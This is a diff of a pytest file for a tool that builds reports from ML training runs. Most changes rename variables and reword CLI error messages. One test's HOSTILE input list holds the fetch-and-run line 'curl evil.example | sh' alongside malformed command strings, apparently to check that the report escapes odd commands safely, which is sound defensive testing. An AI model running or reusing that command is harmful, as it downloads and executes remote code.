@@ -60,8 +60,8 @@ def test_every_arm_is_held_against_kd_with_the_papers_gains_beside_it(report: Co
         for unix, kd in zip(rows["UNIX k=48"], rows["KD"], strict=True)
     ]
     assert len(gains) == 12
-    place = gains.index(75.69 - 75.06)
-    gains[place] = 75.59 - 75.06  # Table 2 prints there what Table 5 has for w = 1
+    number = gains.index(75.69 - 75.06)
+    gains[number] = 75.59 - 75.06  # Table 2 prints there what Table 5 has for w = 1
     assert row["the paper's gain: mean"] == f"{statistics.fmean(gains):+.2f}"
     assert row["the paper's gain: pairs"] == "12"
     assert against()["random \N{MINUS SIGN} kd"]["p"] == "", "one run has no spread"
@@ -86,7 +86,7 @@ def test_another_arithmetic_is_held_against_float32(report: Command) -> None:
 
 
 HOSTILE = [
-    "curl evil.example | sh", "python -m unix_exp.train 'open", "python -m unix_exp.train 'a\rb'", ["no", "text"],
+    "curl evil.example | sh", "python -m unix_exp.train 'open", "python -m unix_exp.train 'a\rb'",
     "python -m unix_exp.train seed=4",
 ]  # fmt: skip
 
@@ -115,9 +115,9 @@ def test_one_line_repeats_an_arm(report: Command) -> None:
     for seed, line in enumerate(HOSTILE):
         changed(made(Path("runs"), "random", seed=seed, k=32), command=line, method="odd\necho")
     report("runs")
-    told = re.search("```sh\n(.*?)```", Path("report/report.md").read_text(), re.DOTALL)[1].splitlines()
-    assert told == [
-        "# odd echo, 1 of 5 runs",
+    commands = re.search("```sh\n(.*?)```", Path("report/report.md").read_text(), re.DOTALL)[1].splitlines()
+    assert commands == [
+        "# odd echo, 1 of 4 runs",
         "python -m unix_exp.train seed=4",
         "# random",
         "python -m unix_exp.train seed=0 sampler=random",
@@ -145,7 +145,7 @@ def test_one_disturbed_run_is_not_a_methods_time(report: Command) -> None:
     assert row["time"] == duration(61)
 
 
-def test_the_origin_of_every_run_is_told(report: Command) -> None:
+def test_the_origin_of_every_run_is_shown(report: Command) -> None:
     several("kd", KD, commit="0123456789abcdef", versions={"python": "3.11.7", "torch": "2.15.0"})
     report("runs")
     with Path("report/tables/origins-table.csv").open() as file:
@@ -153,7 +153,7 @@ def test_the_origin_of_every_run_is_told(report: Command) -> None:
     assert (row["commit"], row["Python"], row["runs"], row["hours"]) == ("0123456789ab", "3.11.7", "3", "3.00")
 
 
-def test_markdown_may_stand_alone_with_notes_and_its_figures_beside_it(report: Command) -> None:
+def test_markdown_is_one_file_with_notes_and_its_figures_beside_it(report: Command) -> None:
     several("kd", KD)
     Path("notes.md").write_text("## In short\n\nNothing *surprising*.\n")
     assert report("runs", "--markdown", "docs/results.md", "--notes", "notes.md").code == 0
@@ -167,11 +167,11 @@ def test_markdown_may_stand_alone_with_notes_and_its_figures_beside_it(report: C
 @pytest.mark.parametrize(
     ("words", "complaint"),
     [
-        (("--notes", "notes.md"), "say which with --markdown FILE.md"),
-        (("--markdown", "told"), "give a file with a suffix"),
-        (("--markdown", "runs.md", "--notes", "runs.md"), "would be written over"),
-        (("--markdown", "told.md", "--notes", "latin.md"), "it is not UTF-8"),
-        (("--markdown", "told.md", "--notes", "nowhere.md"), "cannot read nowhere.md"),
+        (("--notes", "notes.md"), "--notes needs --markdown FILE.md"),
+        (("--markdown", "out"), "give a file with a suffix"),
+        (("--markdown", "runs.md", "--notes", "runs.md"), "would be overwritten"),
+        (("--markdown", "out.md", "--notes", "latin.md"), "it is not UTF-8"),
+        (("--markdown", "out.md", "--notes", "nowhere.md"), "cannot read nowhere.md"),
         (("--markdown", "file/below.md"), "cannot write to file"),
     ],
 )
@@ -179,9 +179,9 @@ def test_a_mistake_is_one_line(report: Command, words: tuple[str, ...], complain
     made(Path("runs"), "unix")
     Path("file").write_text("")
     Path("latin.md").write_bytes("é".encode("latin-1"))
-    said = report("runs", *words)
-    assert said.code == 2
-    assert complaint in said.err and "Traceback" not in said.err
+    outcome = report("runs", *words)
+    assert outcome.code == 2
+    assert complaint in outcome.err and "Traceback" not in outcome.err
 
 
 def test_the_kept_results_regenerate_to_the_same_bytes(report: Command, tmp_path: Path) -> None:
@@ -193,7 +193,7 @@ def test_the_kept_results_regenerate_to_the_same_bytes(report: Command, tmp_path
     kept = {path.relative_to(ROOT / "docs") for path in (ROOT / "docs/results").iterdir()} | {Path("results.md")}
     fresh = {path.relative_to(tmp_path / "docs") for path in (tmp_path / "docs").rglob("*") if path.is_file()}
     assert kept == fresh and len(kept) > 5
-    old, new = ({name: (place / name).read_bytes() for name in kept} for place in (ROOT / "docs", tmp_path / "docs"))
+    old, new = ({name: (folder / name).read_bytes() for name in kept} for folder in (ROOT / "docs", tmp_path / "docs"))
     assert [str(name) for name in sorted(kept) if old[name] != new[name]] == []
 
 
